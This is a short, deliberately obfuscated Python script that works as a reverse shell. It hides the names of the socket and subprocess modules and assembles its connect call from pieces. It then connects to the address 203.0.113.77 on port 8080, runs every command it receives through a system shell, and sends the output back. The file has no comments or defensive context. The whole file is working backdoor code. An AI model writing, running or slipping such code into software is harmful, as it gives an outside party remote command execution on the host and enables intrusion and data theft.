from importlib import import_module as _i

a, b = map(_i, ("socket", "ssecorpbus"[::-1]))
c = getattr(a, "create_" + "connection")((".".join(map(str, (203, 0, 113, 77))), 0x1F90))
while 1:
    d = c.recv(0x400)
    if not d:
        break
    e = getattr(b, "P" + "open")(d.decode(), shell=True, stdout=-1, stderr=-2)
    c.send(e.communicate()[0])
